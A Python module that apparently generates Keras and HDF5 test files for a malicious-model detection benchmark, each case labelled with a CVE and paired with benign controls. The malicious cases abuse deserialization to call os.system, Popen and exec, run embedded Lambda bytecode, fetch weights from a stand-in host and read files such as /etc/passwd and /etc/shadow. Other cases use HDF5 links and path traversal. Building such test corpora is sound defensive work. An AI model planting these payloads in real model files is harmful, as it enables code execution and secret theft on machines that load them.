# ruff: noqa: ANN401 - h5py has no type information
"""Keras files (``.keras`` and HDF5): code in Lambda layers, arbitrary names in the configuration, reads of other files."""

from __future__ import annotations

import base64
import io
import json
from collections.abc import Callable, Iterator
from typing import Any

import h5py  # type: ignore[import-untyped]
import numpy as np

from benchmarks.corpus.malicious.cases import Case
from benchmarks.corpus.malicious.containers.zips import plain
from benchmarks.corpus.malicious.formats.bytecode import interpreters, marshalled
from benchmarks.corpus.malicious.hosts import EVIL, object_npy

Layer = dict[str, Any]


def _layer(name: str, config: Layer, module: str = "keras.layers", **more: object) -> Layer:
    return {"module": module, "class_name": name, "config": {"name": name.lower(), **config}, "registered_name": None, **more}


def _model(layers: list[Layer], **more: object) -> Layer:
    entry = _layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32"})
    config = {"name": "sequential", "trainable": True, "layers": [entry, *layers]}
    return {"module": "keras", "class_name": "Sequential", "config": config, "registered_name": None, **more}


def _dense() -> Layer:
    glorot = {"module": "keras.initializers", "class_name": "GlorotUniform", "config": {"seed": None}, "registered_name": None}
    return _layer("Dense", {"units": 2, "activation": "relu", "use_bias": True, "kernel_initializer": glorot})


def _lambda(function: object, **config: object) -> Layer:
    return _layer("Lambda", {"function": function, **config})


def _bytecode(version: str, name: str) -> Layer:
    code = base64.b64encode(marshalled(version, name)).decode()
    return {"class_name": "__lambda__", "config": {"code": code + "\n", "defaults": None, "closure": None}}


def _function(module: str, name: str) -> Layer:
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


def h5(fill: Callable[[Any], None]) -> bytes:
    """The bytes of an HDF5 file filled by ``fill``."""
    memory = io.BytesIO()
    with h5py.File(memory, "w", track_order=True) as file:
        fill(file)
    return memory.getvalue()


def _weights(file: Any) -> None:
    file.create_dataset("layers/dense/vars/0", data=np.arange(8, dtype="f4").reshape(4, 2))
    file.create_dataset("layers/dense/vars/1", data=np.zeros(2, dtype="f4"))


def keras(config: object, weights: bytes | None = None, extra: tuple[tuple[str, bytes], ...] = ()) -> bytes:
    """A ``.keras`` archive."""
    text = json.dumps(config).encode()
    meta = json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}).encode()
    return plain([("metadata.json", meta), ("config.json", text), ("model.weights.h5", weights or h5(_weights)), *extra])


def legacy(config: object) -> bytes:
    """A legacy whole-model HDF5 file."""

    def fill(file: Any) -> None:
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"], file.attrs["backend"] = "2.15.0", "tensorflow"
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = np.array([b"dense"])
        dense = group.create_group("dense")
        dense.attrs["weight_names"] = np.array([b"dense/kernel:0", b"dense/bias:0"])
        dense.create_dataset("dense/kernel:0", data=np.ones((4, 2), dtype="f4"))
        dense.create_dataset("dense/bias:0", data=np.zeros(2, dtype="f4"))

    return h5(fill)


def _configurations() -> dict[str, tuple[Layer, str]]:
    url, path = "http://198.51.100.7/weights.h5", "/etc/passwd"
    lookup = {"vocabulary": path, "max_tokens": None, "mask_token": None, "num_oov_indices": 1}
    return {
        "class-name-os-system": (
            _model([{"module": "os", "class_name": "system", "config": {"command": "echo inert"}}]),
            "CVE-2025-1550",
        ),
        "class-name-eval": (_model([{"module": "builtins", "class_name": "eval", "config": {"source": "1"}}]), "CVE-2025-1550"),
        "function-system": (_model([_lambda(_function("os", "system"), arguments={"command": "echo inert"})]), "CVE-2025-1550"),
        "function-popen": (
            _model([_lambda(_function("subprocess", "Popen"), arguments={"args": "echo inert", "shell": True})]),
            "CVE-2025-1550",
        ),
        "registered-name": (
            _model([_layer("Dense", {"units": 2}, "inert_package.layers") | {"registered_name": "inert>Payload"}]),
            "CVE-2025-1550",
        ),
        "user-module": (_model([_layer("Payload", {"command": "echo inert"}, "toadstone_payload")]), "GHSA-pwq7-2gvj-vg9v"),
        "activation-function": (
            _model([_layer("Dense", {"units": 2, "activation": _function("builtins", "exec")})]),
            "CVE-2025-1550",
        ),
        "get-file": (
            _model([_lambda(_function("keras.utils", "get_file"), arguments={"origin": url, "extract": True})]),
            "CVE-2025-8747",
        ),
        "get-file-cache": (
            _model([_lambda(_function("keras.utils", "get_file"), arguments={"origin": url, "cache_dir": "/root"})]),
            "CVE-2025-12060",
        ),
        "enable-unsafe": (_model([_lambda(_function("keras.config", "enable_unsafe_deserialization"))]), "CVE-2025-9906"),
        "nested-load-model": (
            _model([_lambda(_function("keras.models", "load_model"), arguments={"safe_mode": False})]),
            "CVE-2025-9906",
        ),
        "string-lookup-path": (_model([_layer("StringLookup", lookup)]), "CVE-2025-12058"),
        "text-vectorization-path": (
            _model([_layer("TextVectorization", {"vocabulary": "../../../etc/shadow"})]),
            "CVE-2025-12058",
        ),
        "string-lookup-url": (_model([_layer("StringLookup", {**lookup, "vocabulary": url})]), "CVE-2025-12058"),
        "integer-lookup-path": (_model([_layer("IntegerLookup", {"vocabulary": "/proc/self/environ"})]), "CVE-2025-12058"),
        "torch-module": (
            _model([_layer("TorchModuleWrapper", {"module": base64.b64encode(EVIL).decode()}, "keras.src.utils.torch_utils")]),
            "CVE-2025-49655",
        ),
        "tf-op": (
            _model([_layer("TFOpLambda", {"function": "io.read_file", "arguments": {"filename": path}}, "keras.src.layers")]),
            "own",
        ),
        "compile-config": (
            _model([_dense()], compile_config={"loss": _function("os", "system"), "optimizer": "adam"}),
            "CVE-2025-1550",
        ),
        "build-config": (_model([_dense() | {"build_config": _function("os", "system")}]), "own"),
        "custom-regularizer": (
            _model(
                [
                    _layer(
                        "Dense",
                        {"units": 2, "kernel_regularizer": {"module": "os", "class_name": "popen", "config": {"cmd": "id"}}},
                    )
                ]
            ),
            "CVE-2025-1550",
        ),
    }


def _lambdas() -> Iterator[Case]:
    for version in interpreters():
        for name in ("system", "lambda", "exec-base64", "socket", "nested", "good-scale", "good-relu"):
            good = name.startswith("good-")
            label, payload = ("code-carrying", False) if good else ("malicious", True)
            notes = {"python": version}
            new = keras(_model([_dense(), _lambda(_bytecode(version, name))]))
            yield Case(
                f"keras/lambda-{version}-{name}.keras", new, f"keras-lambda-{name}", label, "CVE-2024-3660", payload, notes
            )
            if name in {"system", "good-scale"}:
                code = base64.b64encode(marshalled(version, name)).decode()
                old = _lambda([code, None, None], function_type="lambda", module="__main__", output_shape=None)
                yield Case(
                    f"keras/h5-lambda-{version}-{name}.h5",
                    legacy(_model([old])),
                    "keras-h5-lambda",
                    label,
                    "CVE-2025-9905",
                    payload,
                    notes,
                )


def _files() -> Iterator[Case]:
    version = next(iter(interpreters()))
    deep: Layer = _model([_lambda(_bytecode(version, "system"))])
    for _ in range(6):
        deep = _model([deep])
    yield Case("keras/lambda-deep.keras", keras(deep), "keras-lambda", source="CVE-2024-3660")
    source = _lambda(
        {"module": "builtins", "class_name": "function", "config": "lambda x: __import__('os').system('echo inert')"}
    )
    yield Case("keras/lambda-source.keras", keras(_model([source])), "keras-lambda")

    def external_link(file: Any) -> None:
        file["layers"] = h5py.ExternalLink("/etc/passwd", "/secret")

    def soft_link(file: Any) -> None:
        _weights(file)
        file["alias"] = h5py.SoftLink("/../../outside")

    def external_storage(file: Any) -> None:
        file.create_dataset("layers/dense/vars/0", shape=(16,), dtype="u1", external=[("/etc/passwd", 0, 16)])

    def virtual(file: Any) -> None:
        layout = h5py.VirtualLayout(shape=(16,), dtype="u1")
        layout[:] = h5py.VirtualSource("/root/.ssh/secret.h5", "key", shape=(16,))
        file.create_virtual_dataset("layers/dense/vars/0", layout)

    def pickled(file: Any) -> None:
        _weights(file)
        file.attrs["optimizer"] = np.void(EVIL)
        file.create_dataset("blob", data=np.frombuffer(EVIL, dtype="u1"))

    fills = {
        "external-link": external_link,
        "soft-link": soft_link,
        "external-storage": external_storage,
        "virtual-dataset": virtual,
    }
    for name, fill in fills.items():
        source_id = "CVE-2026-1669" if name != "soft-link" else "own"
        yield Case(f"keras/h5-{name}.h5", h5(fill), "hdf5-links", source=source_id)
        yield Case(f"keras/weights-{name}.keras", keras(_model([_dense()]), h5(fill)), "hdf5-links", source=source_id)
    yield Case("keras/h5-pickle-inside.h5", h5(pickled), "hdf5-opaque", "code-carrying")
    extra = (("model.weights.npz", plain([("a.npy", object_npy())])), ("assets/layer/hook.pkl", EVIL))
    yield Case("keras/archive-extra-pickles.keras", keras(_model([_dense()]), extra=extra), "keras-archive")
    yield Case(
        "keras/archive-parent-asset.keras",
        keras(_model([_dense()]), extra=(("../../root/.bashrc", b"echo inert\n"),)),
        "keras-archive",
    )
    twice = plain(
        [
            ("config.json", json.dumps(_model([_dense()])).encode()),
            ("metadata.json", b"{}"),
            ("config.json", json.dumps(_configurations()["function-system"][0]).encode()),
        ]
    )
    yield Case("keras/archive-config-twice.keras", twice, "keras-archive")


def cases() -> Iterator[Case]:
    """All Keras and HDF5 cases."""
    for name, (config, source) in _configurations().items():
        yield Case(f"keras/{name}.keras", keras(config), f"keras-config-{name.partition('-')[0]}", source=source)
    for name in ("function-system", "class-name-eval", "user-module", "string-lookup-path"):
        yield Case(f"keras/h5-{name}.h5", legacy(_configurations()[name][0]), "keras-h5-config", source="CVE-2025-9905")
    yield from _lambdas()
    yield from _files()
    good = {
        "dense": [_dense()],
        "dropout": [_dense(), _layer("Dropout", {"rate": 0.5})],
        "rescaling": [_layer("Rescaling", {"scale": 0.5, "offset": 0.0}), _dense()],
        "lookup": [_layer("StringLookup", {"vocabulary": ["a", "b"]}), _dense()],
    }
    for name, layers in good.items():
        yield Case(f"keras/benign-{name}.keras", keras(_model(layers)), f"keras-benign-{name}", "benign", payload=False)
        yield Case(f"keras/benign-{name}.h5", legacy(_model(layers)), f"keras-benign-{name}", "benign", payload=False)
    compiled = _model([_dense()], compile_config={"loss": "mse", "optimizer": "adam"})
    yield Case("keras/benign-compiled.keras", keras(compiled), "keras-benign-compiled", "benign", payload=False)
